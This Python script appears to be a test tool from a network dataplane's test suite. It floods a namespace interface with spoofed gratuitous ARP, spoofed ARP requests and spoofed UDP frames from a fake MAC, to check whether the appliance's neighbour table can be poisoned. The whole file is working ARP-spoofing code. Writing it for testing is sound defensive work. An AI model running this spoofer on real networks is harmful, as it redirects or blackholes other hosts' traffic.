#!/usr/bin/python3
"""spoof_neigh.py IFACE DP_MAC DP_IP CONSUMER_IP SECONDS - the neighbour
poisoner of run_neigh_poison.sh (run inside the fleet's namespace).

Through an AF_PACKET socket on IFACE it sends, every 5 ms for SECONDS, three
frames from a MAC that is not IFACE's (02:00:00:00:ee:ee), each claiming
CONSUMER_IP: a gratuitous ARP (reply, sender = target = CONSUMER_IP), an ARP
request from CONSUMER_IP for DP_IP, and a UDP datagram CONSUMER_IP:17000 ->
DP_IP:4242 (a one-byte junk payload). Any of them, believed, sends the
dataplane's deliveries to a MAC nobody has. Prints the frame counts.

spoof_neigh.py --announce IFACE DP_MAC DP_IP CONSUMER_IP 0 sends instead one
genuine ARP request from CONSUMER_IP at IFACE's own MAC for DP_IP (what the
consumer's kernel sends before talking to the appliance)."""
import socket
import struct
import sys
import time

EVIL = bytes.fromhex("02000000eeee")


def mac(s):
    return bytes.fromhex(s.replace(":", ""))


def arp(op, dst_mac, spa, tha, tpa, sha=EVIL):
    eth = dst_mac + sha + b"\x08\x06"
    return eth + struct.pack(">HHBBH6s4s6s4s", 1, 0x0800, 6, 4, op, sha, socket.inet_aton(spa), tha,
                             socket.inet_aton(tpa)) + bytes(18)


def udp(dst_mac, src, dst):
    payload = b"\x00"
    u = struct.pack(">HHHH", 17000, 4242, 8 + len(payload), 0) + payload
    hdr = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(u), 0, 0x4000, 64, 17, 0, socket.inet_aton(src),
                      socket.inet_aton(dst))
    s = sum((hdr[i] << 8) | hdr[i + 1] for i in range(0, 20, 2))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    hdr = hdr[:10] + struct.pack(">H", ~s & 0xFFFF) + hdr[12:]
    return dst_mac + EVIL + b"\x08\x00" + hdr + u


def main():
    announce = sys.argv[1] == "--announce"
    if announce:
        del sys.argv[1]
    iface, dp_mac, dp_ip, cons_ip, secs = sys.argv[1], mac(sys.argv[2]), sys.argv[3], sys.argv[4], float(sys.argv[5])
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    bcast = b"\xff" * 6
    if announce:
        own = mac(open(f"/sys/class/net/{iface}/address").read().strip())
        s.send(arp(1, bcast, cons_ip, bytes(6), dp_ip, own))
        print(f"sent an ARP request from {cons_ip} at {own.hex(':')}")
        return
    frames = [
        arp(2, bcast, cons_ip, bcast, cons_ip),           # gratuitous ARP
        arp(1, bcast, cons_ip, bytes(6), dp_ip),          # ARP request from "the consumer"
        udp(dp_mac, cons_ip, dp_ip),                      # UDP from "the consumer"
    ]
    n = 0
    end = time.monotonic() + secs
    while time.monotonic() < end:
        for f in frames:
            s.send(f)
        n += 1
        if n == 1:
            print("spoofing: the first round is sent", flush=True)  # the caller waits for this line
        time.sleep(0.005)  # pacing: a round of spoofs every 5 ms
    print(f"sent {n} rounds of gratuitous ARP, ARP request, UDP from {cons_ip} at {EVIL.hex(':')}")


if __name__ == "__main__":
    main()
